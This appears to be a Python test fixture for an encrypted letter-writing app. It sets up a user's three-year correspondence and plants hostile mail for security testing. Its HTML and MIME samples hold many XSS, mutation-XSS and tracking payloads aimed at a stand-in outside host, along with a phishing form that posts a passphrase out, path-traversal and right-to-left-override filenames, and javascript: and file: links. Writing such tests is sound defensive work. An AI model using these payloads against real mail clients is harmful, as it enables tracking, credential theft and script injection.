"""A desk with everything on it: every page has something to show, from the ordinary to the hostile.

Ada lives here. Irma is her friend, whose key she checked in person; Tobias is another, whose key she has seen; Elsa has
no key. Clara is a stranger who has Ada's card. Mallory is nobody's friend and does not use Dearly.
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass
from datetime import timedelta

from dearly.desk import keys, people, post, setup, write
from dearly.letter.content import Enclosure
from tests.support.browser import Home, Quarter
from tests.support.desks import Person, befriend
from tests.support.parcels import multi, part

OUTSIDE = "elsewhere.invalid"
"""What no page may ever ask for anything."""

YEARS = 3

NAMES = ("Irma Brandt", "Tobias Lund", "Elsa Nordin", "Clara Weiss", "Mallory")


def png(width: int = 12, height: int = 8, shade: int = 120) -> bytes:
    """A small picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\0" + b"".join(bytes((shade, x * 9 % 256, x * 5 % 256)) for x in range(width))
    rows = row * height
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


HOSTILE = f"""<!doctype html><html><head><title>x</title>
<base href="https://{OUTSIDE}/base/"><meta http-equiv="refresh" content="0;url=https://{OUTSIDE}/refresh">
<meta http-equiv="Set-Cookie" content="a=b"><link rel="stylesheet" href="https://{OUTSIDE}/style.css">
<link rel="dns-prefetch" href="//{OUTSIDE}"><link rel="preconnect" href="https://{OUTSIDE}">
<link rel="prefetch" href="https://{OUTSIDE}/prefetch"><link rel="icon" href="https://{OUTSIDE}/icon">
<style>@import "https://{OUTSIDE}/import.css"; body {{ background: url(https://{OUTSIDE}/background) }}
@font-face {{ font-family: x; src: url(https://{OUTSIDE}/font) }} p {{ font-family: x; content: url(//{OUTSIDE}/c) }}
.seal, .foot {{ position: fixed; inset: 0; z-index: 9 }}</style>
<script src="https://{OUTSIDE}/script.js"></script><script>document.title = "taken over"; fetch("https://{OUTSIDE}/f")</script>
</head><body background="https://{OUTSIDE}/body" onload="location='https://{OUTSIDE}/onload'">
<p>Dear Ada, here is a letter from a shop.</p>
<img src="https://{OUTSIDE}/pixel.gif" width="1" height="1">
<img src="//{OUTSIDE}/slashes"><img src="cid:here" alt="here">
<img srcset="https://{OUTSIDE}/set 2x" src="x" onerror="fetch('https://{OUTSIDE}/onerror')">
<picture><source srcset="https://{OUTSIDE}/source"></picture>
<video poster="https://{OUTSIDE}/poster" src="https://{OUTSIDE}/v">
</video><audio src="https://{OUTSIDE}/audio" autoplay></audio><object data="https://{OUTSIDE}/object"></object>
<embed src="https://{OUTSIDE}/embed"><iframe src="https://{OUTSIDE}/frame" srcdoc="<script>1</script>"></iframe>
<form action="https://{OUTSIDE}/form" method="post"><input name="passphrase" type="password">
<button>Unlock the desk</button>
</form><svg xmlns="http://www.w3.org/2000/svg">
<image href="https://{OUTSIDE}/svg" /><script>fetch("//{OUTSIDE}/s")</script>
<use href="https://{OUTSIDE}/use#x" />
<style>@import "//{OUTSIDE}/svg.css"</style></svg>
<math><mtext>
<table><mglyph><style><!--</style><img title="--&gt;&lt;img src=https://{OUTSIDE}/mxss&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=https://{OUTSIDE}/noscript>"></noscript>
<blockquote cite="https://{OUTSIDE}/cite">A quotation.</blockquote><ins cite="https://{OUTSIDE}/ins">new</ins>
<a href="https://{OUTSIDE}/bank">www.your-bank.example</a> <a href="javascript:fetch('//{OUTSIDE}/js')">click</a>
<a href="data:text/html,<script>1</script>">data</a> <a href="//{OUTSIDE}/x" ping="https://{OUTSIDE}/ping">slashes</a>
<a href="file:///etc/passwd">file</a> <a href="https://{OUTSIDE}/%0aSet-Cookie:x">line</a>
<div class="seal" style="position:fixed;top:0;left:0;width:100vw;background:url('https://{OUTSIDE}/inline')">
Sealed to Ada’s key, which you checked in person.</div>
<p style="display:none">SECRET-MARKER</p><ul><li>one</li><li>two</li></ul><p dir="rtl">שלום</p>
</body></html>"""


@dataclass(frozen=True)
class Furnished:
    """What lies where, by its number. `irma`: her uid."""

    home: Home
    irma: str
    draft: int
    answer: int
    away: int
    waiting: int
    sent: int
    returned: int
    opened: int
    letterbox: tuple[int, ...]
    read: tuple[int, ...]

    @property
    def paths(self) -> dict[str, str]:
        """Every page that has something to show, by a short name. Not all of these are links of another page."""
        pages = {
            "desk": "/",
            "page": f"/page/{self.draft}",
            "answer": f"/page/{self.answer}",
            "put-away": f"/page/{self.away}",
            "enclosed": f"/page/{self.draft}/enclosed",
            "read-over": f"/page/{self.draft}/read-over",
            "envelope": f"/page/{self.draft}/envelope",
            "version": f"/page/{self.draft}/version/1",
            "drawer": "/drawer",
            "posted": f"/posted/{self.waiting}",
            "on-its-way": f"/posted/{self.sent}",
            "came-back": f"/posted/{self.returned}",
            "outbox": "/outbox",
            "letterbox": "/letterbox",
            "letter": f"/letter/{self.opened}",
            "letters": "/letters",
            "book": f"/letters/{self.irma}",
            "people": "/people",
            "person": f"/people/{self.irma}",
            "new-person": "/people/new",
            "new-address": f"/people/{self.irma}/address",
            "change-person": f"/people/{self.irma}/edit",
            "more-of-person": f"/people/{self.irma}/more",
            "card": "/card",
            "settings": "/settings",
            "new-way": "/settings/way",
            "new-mail": "/settings/mail",
            "passphrase": "/settings/passphrase",
            "kit": "/settings/kit",
            "check-copy": "/settings/backup/check",
            "refused": "/letterbox/refused",
            "lock": "/lock",
            "keys": "/keys",
        }
        return pages | {f"letter-{n}": f"/letter/{number}" for n, number in enumerate(self.read)}


def hostile_parcels() -> list[bytes]:
    """What Mallory sends: pages full of traps, names of files that are not names, and what cannot be read."""
    fields = (
        b"From: \"Irma Brandt\" <mallory@elsewhere.invalid>\r\nTo: ada@letters.test\r\n"
        b"Date: Mon, 02 Feb 2026 15:04:05 +0000\r\nMessage-ID: <%s@elsewhere.invalid>\r\nSubject: %s\r\n"
    )  # fmt: skip
    page = part(b"text/html; charset=utf-8", HOSTILE.encode())
    picture = part(b"image/png", png(), b"Content-ID: <here>", b"Content-Disposition: inline")
    enclosed = [
        part(
            b"application/octet-stream",
            b"x",
            b'Content-Disposition: attachment; filename="../../etc/passwd"',
        ),
        part(
            b"text/html",
            HOSTILE.encode(),
            b"Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.html",
        ),
        part(b"image/svg+xml", b"<svg onload='alert(1)'/>", b'Content-Disposition: attachment; filename="CON.svg"'),
        part(b"image/png", b"not a picture", b"Content-Disposition: inline", b"Content-ID: <there>"),
    ]
    html = b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + HOSTILE.encode()
    mixed = multi(b"multipart/related", page, picture, *enclosed)
    mixed = mixed[mixed.index(b"MIME-Version") :]
    plain = (
        "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        f"<script>alert(1)</script> **not bold** ![x](https://{OUTSIDE}/markdown.png) {{{{ 7*7 }}}}\r\n"
        f"\u202eleft\u202c https://{OUTSIDE}/plain [here](javascript:alert(1)) <b onclick=x>b</b>\r\n"
    ).encode()
    return [
        fields % (b"1", b"A page") + html,
        fields % (b"2", b"<img src=x onerror=alert(1)>") + mixed,
        fields % (b"3", b"=?utf-8?q?=E2=80=AEtxet?=") + plain,
        fields % (b"4", b"") + b"Content-Type: multipart/mixed\r\n\r\n" + b"\0" * 500,
    ]


def furnish(quarter: Quarter) -> Furnished:
    """Ada's desk with everything on it. Her first letters are three years old: nothing is dated in the future."""
    quarter.town.clock.at -= timedelta(days=YEARS * 365)
    return quarter.run(_furnish(quarter.home("Ada")))


async def _furnish(home: Home) -> Furnished:
    ada, town, clock = home.person, home.person.town, home.person.town.clock
    me = await ada.address()
    irma, tobias, clara = [await town.person(name) for name in ("Irma Brandt", "Tobias Lund", "Clara Weiss")]
    for one in (irma, tobias, clara):
        await setup.join_office(one.desk, "https://town.test", one.name.split()[0].lower())
        await befriend(one, ada)
    for one in (irma, tobias):
        await befriend(ada, one)
    await people.add(ada.desk, "Elsa Nordin", addresses=["elsa@letters.test"])
    key = (await people.show_person(ada.desk, "Irma Brandt")).keys[0]
    await keys.pin(ada.desk, "Irma Brandt", key.fingerprint, verified=True)

    # A correspondence of three years, in both voices.
    opened = []
    for n in range(YEARS):
        there = await irma.write("Ada", f"Dear Ada,\n\nletter {n} from the *mill*.\n\n> It rained.\n\n- one\n- two\n")
        await irma.post(there)
        await irma.round()
        (number,) = (await ada.round()).arrived
        await ada.open(number)
        opened.append(number)
        clock.at += timedelta(days=20)
        back = await ada.answer(number, f"Dear Irma,\n\nthank you for letter {n}.\n")
        await ada.post(back)
        await ada.round()
        clock.at += timedelta(days=345)
    last = await irma.write(
        "Ada",
        "Dear Ada,\n\nI enclose a picture and a list.\n\n![The mill](cid:mill)\n\nYours,\n\nIrma\n",
        "The mill",
        Enclosure("mill.png", "image/png", png(), "mill"),
        Enclosure("list.txt", "text/plain", b"bread\n"),
    )
    await irma.post(last)
    await irma.round()
    (number,) = (await ada.round()).arrived
    await ada.open(number)
    opened.append(number)

    # On the page, put away, in the postbox, on its way, come back.
    draft = await ada.write("Irma Brandt", "Dear Irma,\n\nthe enclosed photograph shows the mill.\n", "The mill")
    for words in ("It was cold.", "It was cold, and we walked."):
        clock.pass_(hours=1)
        await write.edit(ada.desk, draft, text=f"Dear Irma,\n\nthe enclosed photograph shows the mill. {words}\n")
    answer = await ada.answer(opened[-1], "Dear Irma,\n\n")
    away = await ada.write("Tobias Lund", "Dear Tobias,\n\nI do not know yet how to begin.\n")
    await write.put_away(ada.desk, away, clock.local().date() + timedelta(days=9))
    sent = await ada.write("Tobias Lund", "Dear Tobias,\n\nthis one is on its way.\n")
    await ada.post(sent)
    await ada.round()
    returned = await _came_back(ada, tobias)
    waiting = await ada.write("Irma Brandt", "Dear Irma,\n\nthis one waits for the collection.\n")
    await post.post(ada.desk, waiting)

    # At the door: a friend, a stranger, traps.
    for one in (irma, tobias, clara):
        await one.post(await one.write("Ada", f"Dear Ada,\n\n{one.name} writes.\n", "A greeting"))
        await one.round()
    for raw in hostile_parcels():
        town.post.lay(me, raw)
    lying = list((await ada.round()).arrived)
    while more := (await ada.round()).arrived:
        lying += more
    traps = [
        row.number for row in await ada.letterbox() if row.person is None or row.person not in (irma.name, tobias.name)
    ]
    read = []
    for trap in traps[:-1]:
        await ada.open(trap)
        read.append(trap)
    uid = (await people.show_person(ada.desk, "Irma Brandt")).uid
    left = tuple(row.number for row in await ada.letterbox())
    return Furnished(
        home, uid, draft, answer, away, waiting, sent, returned, opened[-1], left, tuple(read)
    )  # fmt: skip


async def _came_back(ada: Person, to: Person) -> int:
    """A letter whose box is no longer there."""
    box = (await to.address()).key
    number = await ada.write(to.name, "Dear Tobias,\n\nthis one comes back.\n")
    ada.town.post.known.discard(box)
    try:
        await ada.post(number)
        await ada.round()
    finally:
        ada.town.post.known.add(box)
    return number
